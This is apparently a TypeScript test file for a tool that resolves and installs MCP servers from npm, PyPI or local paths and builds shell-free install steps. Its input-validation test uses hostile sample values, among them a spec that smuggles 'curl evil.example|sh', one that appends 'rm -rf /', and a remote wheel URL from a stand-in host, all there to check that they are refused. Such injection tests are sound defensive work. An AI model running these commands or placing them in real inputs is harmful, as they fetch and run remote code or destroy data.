import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { UsageError } from '../../package_scripts/errors.js';
import { defaultServerArgs, resolveServer } from '../../package_scripts/settings/server.js';
import { repoRoot } from './project-fixture.js';

interface Step {
  argv?: string[];
  env?: Record<string, string>;
  concat?: string[];
  to?: string;
  glob?: boolean;
}
const plan = createRequire(import.meta.url)(join(repoRoot, 'docker', 'common', 'build', 'server', 'plan.cjs')) as {
  parseServerSpec(value: string): { ecosystem: string; local: boolean; spec: string };
  distributionName(server: { local: boolean; spec: string }): string;
  installSteps(server: object, prefix: string, options: object): Step[];
  chooseExecutable(name: string, executables: Record<string, string>, wanted: string): string;
};

const root = mkdtempSync(join(tmpdir(), 'mcp-server-test-'));
const home = join(root, 'home');
after(() => rmSync(root, { recursive: true, force: true }));
for (const [dir, files] of Object.entries({
  'npm-server': ['package.json'],
  'py-server': ['pyproject.toml'],
  'setup-py-server': ['setup.py'],
  'both-server': ['package.json', 'pyproject.toml'],
  'neither-server': ['README.md'],
  'home/tools/my-server': ['package.json'],
})) {
  mkdirSync(join(root, dir), { recursive: true });
  for (const file of files) writeFileSync(join(root, dir, file), '{}');
}
for (const file of ['srv-1.0.0.tgz', 'srv-1.0-py3-none-any.whl', 'srv-1.0.tar.gz', 'srv.exe']) writeFileSync(join(root, file), 'x');

const resolve = (raw: Record<string, string>) => resolveServer(raw, root, home);
const refused = (raw: Record<string, string>, ...parts: string[]) =>
  assert.throws(
    () => resolve(raw),
    (error: unknown) => {
      assert.ok(error instanceof UsageError, String(error));
      for (const part of parts) assert.ok(error.message.includes(part), `${JSON.stringify(error.message)} should include ${JSON.stringify(part)}`);
      return true;
    },
  );

describe('MCP_SERVER: one setting for any server', () => {
  it('takes npm: and pypi: specs, and the default when unset', () => {
    assert.deepEqual(resolve({}), {
      ecosystem: 'npm',
      display: 'npm:@modelcontextprotocol/server-filesystem@2026.8.31',
      spec: '@modelcontextprotocol/server-filesystem@2026.8.31',
    });
    assert.deepEqual(resolve({ MCP_SERVER: 'pypi:mcp-server-fetch==2025.4.7' }), {
      ecosystem: 'python',
      display: 'pypi:mcp-server-fetch==2025.4.7',
      spec: 'mcp-server-fetch==2025.4.7',
    });
    assert.equal(resolve({ MCP_SERVER: 'pypi:mcp-server-git[dev]>=1.0,<2' }).spec, 'mcp-server-git[dev]>=1.0,<2');
    assert.deepEqual(resolve({ NPM_MCP: '@scope/server@1.2.3' }), { ecosystem: 'npm', display: 'npm:@scope/server@1.2.3', spec: '@scope/server@1.2.3' });
  });

  it('takes local folders and archives, telling npm from Python by what they hold', () => {
    const local = (value: string) => {
      const s = resolve({ MCP_SERVER: value });
      return [s.ecosystem, s.local?.kind, s.local?.path];
    };
    assert.deepEqual(local('./npm-server'), ['npm', 'directory', join(root, 'npm-server')]);
    assert.deepEqual(local('./py-server'), ['python', 'directory', join(root, 'py-server')]);
    assert.deepEqual(local('./setup-py-server'), ['python', 'directory', join(root, 'setup-py-server')]);
    assert.deepEqual(local('pypi:./both-server'), ['python', 'directory', join(root, 'both-server')]);
    assert.deepEqual(local('npm:./both-server'), ['npm', 'directory', join(root, 'both-server')]);
    assert.deepEqual(local('./srv-1.0.0.tgz'), ['npm', 'archive', join(root, 'srv-1.0.0.tgz')]);
    assert.deepEqual(local('./srv-1.0-py3-none-any.whl'), ['python', 'archive', join(root, 'srv-1.0-py3-none-any.whl')]);
    assert.deepEqual(local(`${root}/srv-1.0.tar.gz`), ['python', 'archive', join(root, 'srv-1.0.tar.gz')]);
    // ~/ is the home folder for NPM_MCP too (it used to become <env folder>/~/...).
    assert.deepEqual(resolve({ NPM_MCP: '~/tools/my-server' }).local, { kind: 'directory', path: join(home, 'tools', 'my-server') });
  });

  it('refuses bad input with the setting and the fix in the message', () => {
    refused({ MCP_SERVER: 'pypi:mcp-server-fetch --ignore-robots-txt' }, 'MCP_SERVER may hold only', 'Put server arguments in MCP_SERVER_ARGS');
    refused({ MCP_SERVER: 'npm:x;curl evil.example|sh' }, 'no spaces, quotes, newlines or shell characters');
    refused({ MCP_SERVER: 'pypi:x\nrm -rf /' }, 'MCP_SERVER may hold only');
    refused({ MCP_SERVER: 'ftp:server' }, "unknown scheme 'ftp:'", 'use npm:, pypi: or a local path');
    refused({ MCP_SERVER: 'mcp-server-time' }, 'has no scheme', 'npm:mcp-server-time or pypi:mcp-server-time');
    refused({ MCP_SERVER: 'pypi:x @ https://evil.example/x.whl' }, 'MCP_SERVER may hold only');
    refused({ MCP_SERVER: 'pypi:x;python_version<"3"' }, 'MCP_SERVER may hold only');
    refused({ MCP_SERVER: './neither-server' }, 'has neither package.json (npm) nor pyproject.toml or setup.py (Python)');
    refused({ MCP_SERVER: './missing' }, `names ${join(root, 'missing')}, which does not exist`, 'fix the path');
    refused({ MCP_SERVER: './srv.exe' }, 'accepted are an npm .tgz, a Python wheel');
    refused({ MCP_SERVER: './both-server' }, 'both an npm package and a Python project', 'npm:./path or pypi:./path');
    refused({ MCP_SERVER: 'pypi:./npm-server' }, 'is not a Python package');
    refused({ MCP_SERVER: 'npm:a', NPM_MCP: 'a' }, 'Both MCP_SERVER and NPM_MCP are set', 'remove NPM_MCP');
    refused({ NPM_MCP: './py-server' }, 'which has no package.json', 'for a Python server use MCP_SERVER');
    refused({ MCP_SERVER: 'npm:./py-server' }, `MCP_SERVER names the folder ${join(root, 'py-server')}, which has no package.json`);
  });

  it('gives the default filesystem server /workspace and any other server no arguments', () => {
    assert.equal(defaultServerArgs(resolve({})), '/workspace');
    assert.equal(defaultServerArgs(resolve({ MCP_SERVER: 'npm:@modelcontextprotocol/server-filesystem@2025.1.1' })), '/workspace');
    assert.equal(defaultServerArgs(resolve({ MCP_SERVER: 'pypi:mcp-server-time' })), '');
    assert.equal(defaultServerArgs(resolve({ MCP_SERVER: './npm-server' })), '');
  });
});

describe('the install plan (docker/common/build/server/plan.cjs): argv and environment, no shell', () => {
  const steps = (value: string, options: object = {}) => plan.installSteps(plan.parseServerSpec(value), '/opt/mcp-server', options);
  const PIP_ENV = { PIP_NO_INPUT: '1', PIP_DISABLE_PIP_VERSION_CHECK: '1', PIP_NO_CACHE_DIR: '1' };

  it('npm: one npm install into the prefix, scripts off on request, the extra CA for Node', () => {
    assert.deepEqual(steps('npm:@scope/server@1.2.3'), [
      {
        argv: [
          'npm',
          'install',
          '--prefix',
          '/opt/mcp-server',
          '--omit=dev',
          '--no-audit',
          '--no-fund',
          '--no-update-notifier',
          '--cache',
          '/tmp/npm-cache',
          '@scope/server@1.2.3',
        ],
        env: {},
      },
    ]);
    assert.deepEqual(steps('npm:./server-1.0.0.tgz', { scripts: false, caFile: '/build/ca/extra-ca.crt' }), [
      {
        argv: [
          'npm',
          'install',
          '--prefix',
          '/opt/mcp-server',
          '--omit=dev',
          '--no-audit',
          '--no-fund',
          '--no-update-notifier',
          '--cache',
          '/tmp/npm-cache',
          '--ignore-scripts',
          '/build/server-package/server-1.0.0.tgz',
        ],
        env: { NODE_EXTRA_CA_CERTS: '/build/ca/extra-ca.crt' },
      },
    ]);
  });

  it('pypi: a venv, pip install of the requirement with the index settings and the CA, bytecode, then no pip', () => {
    const venvPython = '/opt/mcp-server/venv/bin/python';
    const env = {
      ...PIP_ENV,
      PIP_CERT: '/tmp/pip-ca.pem',
      PIP_INDEX_URL: 'https://pypi.example.com/simple',
      PIP_EXTRA_INDEX_URL: 'https://extra.example.com/simple',
    };
    assert.deepEqual(
      steps('pypi:mcp-server-fetch==2025.4.7', { caFile: '/build/ca/extra-ca.crt', pipIndexUrl: env.PIP_INDEX_URL, pipExtraIndexUrl: env.PIP_EXTRA_INDEX_URL }),
      [
        { concat: ['/etc/ssl/certs/ca-certificates.crt', '/build/ca/extra-ca.crt'], to: '/tmp/pip-ca.pem' },
        { argv: ['python3', '-m', 'venv', '/opt/mcp-server/venv'], env: {} },
        { argv: [venvPython, '-m', 'pip', 'install', 'mcp-server-fetch==2025.4.7'], env },
        { argv: [venvPython, '-m', 'compileall', '-q', '/opt/mcp-server/venv/lib'], env: {} },
        { argv: [venvPython, '-m', 'pip', 'uninstall', '--yes', 'pip'], env },
      ],
    );
    // Without install scripts, pip takes wheels only: no sdist's build backend runs.
    assert.deepEqual(steps('pypi:x', { scripts: false })[1], { argv: [venvPython, '-m', 'pip', 'install', '--only-binary=:all:', 'x'], env: PIP_ENV });
  });

  it('a local Python folder is built into a wheel offline (Debian setuptools, no build isolation), then installed', () => {
    const built = steps('pypi:./src');
    assert.deepEqual(built.slice(1, 5), [
      { argv: ['cp', '-R', '/build/server-package/src', '/tmp/server-src'], env: {} },
      { argv: ['python3', '-m', 'venv', '--system-site-packages', '/tmp/build-venv'], env: {} },
      {
        argv: ['/tmp/build-venv/bin/python', '-m', 'pip', 'wheel', '--no-deps', '--no-build-isolation', '--wheel-dir', '/tmp/wheels', '/tmp/server-src'],
        env: PIP_ENV,
      },
      { argv: ['/opt/mcp-server/venv/bin/python', '-m', 'pip', 'install', '/tmp/wheels/*.whl'], env: PIP_ENV, glob: true },
    ]);
    assert.deepEqual(steps('pypi:./srv-1.0-py3-none-any.whl')[1], {
      argv: ['/opt/mcp-server/venv/bin/python', '-m', 'pip', 'install', '/build/server-package/srv-1.0-py3-none-any.whl'],
      env: PIP_ENV,
    });
    assert.throws(() => steps('pypi:./src', { scripts: false }), /with MCP_INSTALL_SCRIPTS=false give a wheel/);
  });

  it('names the distribution as pip does, and picks the executable or lists them', () => {
    assert.equal(plan.distributionName(plan.parseServerSpec('pypi:Mcp_Server.Fetch[extra]==1')), 'mcp-server-fetch');
    assert.equal(plan.distributionName(plan.parseServerSpec('pypi:./mcp_probe-1.0-py3-none-any.whl')), 'mcp-probe');
    assert.equal(plan.chooseExecutable('srv', { srv: 'a' }, ''), 'srv');
    assert.equal(plan.chooseExecutable('@s/srv', { other: 'a', srv: 'b' }, ''), 'srv');
    assert.equal(plan.chooseExecutable('srv', { a: 'x', b: 'y' }, 'b'), 'b');
    assert.throws(() => plan.chooseExecutable('srv', { a: 'x', b: 'y' }, ''), /several executables \(a, b\); choose one with MCP_SERVER_BIN/);
    assert.throws(() => plan.chooseExecutable('srv', { a: 'x', b: 'y' }, 'c'), /MCP_SERVER_BIN=c, but srv has a, b; set MCP_SERVER_BIN to one of them/);
    assert.throws(() => plan.chooseExecutable('srv', {}, ''), /declares no executable/);
  });
});

describe('settings that are none (typos)', () => {
  it('are reported with the nearest known name; the server variables of MCP_ENV and dotenvx keys are not', async () => {
    const { unknownSettings } = await import('../../package_scripts/settings/unknown.js');
    assert.deepEqual(
      unknownSettings(
        [
          'MCP_EGRES',
          'NPM_MCP_ARG',
          'MCP_SERVR',
          'MCP_FROBNICATE',
          'GH_TOKEN',
          'MCP_TOKEN',
          'DOTENV_PUBLIC_KEY',
          'MCP_EGRESS',
          'NPM_MCP_ARGS',
          'SOMETHING_ELSE',
        ],
        ['GH_TOKEN', 'MCP_TOKEN'],
      ),
      [
        { name: 'MCP_EGRES', suggestion: 'MCP_EGRESS' },
        { name: 'NPM_MCP_ARG', suggestion: 'NPM_MCP_ARGS' },
        { name: 'MCP_SERVR', suggestion: 'MCP_SERVER' },
        { name: 'MCP_FROBNICATE' },
      ],
    );
  });
});
